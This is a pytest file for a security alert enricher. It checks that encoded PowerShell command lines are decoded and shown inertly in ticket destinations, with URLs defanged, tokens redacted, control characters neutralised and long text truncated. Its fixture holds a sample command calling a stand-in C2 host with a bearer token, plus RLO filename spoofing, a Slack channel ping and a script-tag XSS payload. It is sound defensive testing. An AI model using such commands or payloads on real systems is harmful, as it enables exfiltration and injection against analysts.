"""What base64 in a command line decodes to, as the tickets show it: an attacker's text, like any other."""

from __future__ import annotations

import json
from base64 import b64encode
from html import unescape

import pytest

from enricher.core.commands import decoded_forms
from enricher.core.document import CaseDocument
from tests.destinations.cases import CRITICAL
from tests.destinations.test_destination_render import RENDERERS

HIDDEN = (
    "iwr https://c2.evil-lab.workers.dev/x -Headers @{Authorization='Bearer abcdefgh12345678'}\n"
    "\u202eexe.fdp\u2066 \x1b[31m\u200b <!channel> {code} </pre><script>alert(1)</script> "
)


def showing(text: str) -> CaseDocument:
    """A case whose process runs `text`, encoded."""
    line = f"powershell -enc {b64encode(text.encode('utf-16-le')).decode()}"
    forms = list(decoded_forms(line))
    assert forms == [text]
    return CRITICAL | {"process": CRITICAL["process"] | {"command_line": line, "decoded": forms}}


SHOWING = [name for name in RENDERERS if name != "slack"]
"""Slack's card has room for the chain of names alone; its reader follows the link to the case."""


@pytest.mark.parametrize("destination", RENDERERS)
def test_decoded_text_is_inert(destination: str) -> None:
    printed = json.dumps(RENDERERS[destination](showing(HIDDEN)), ensure_ascii=False)
    assert "evil-lab.workers" not in unescape(printed)
    assert "abcdefgh12345678" not in printed
    assert not [c for c in printed if c in "\u202e\u2066\u200b\x1b"]


@pytest.mark.parametrize("destination", SHOWING)
def test_decoded_text_is_shown(destination: str) -> None:
    printed = unescape(json.dumps(RENDERERS[destination](showing(HIDDEN)), ensure_ascii=False)).replace("\\", "")
    assert "hxxps://c2[.]evil-lab[.]workers[.]dev" in printed
    assert "[U+202E]exe.fdp" in printed


@pytest.mark.parametrize("destination", SHOWING)
def test_decoded_text_is_cut(destination: str) -> None:
    printed = json.dumps(RENDERERS[destination](showing("x" * 100_000)))
    assert "more, see case" in printed
    assert "x" * 5_000 not in printed
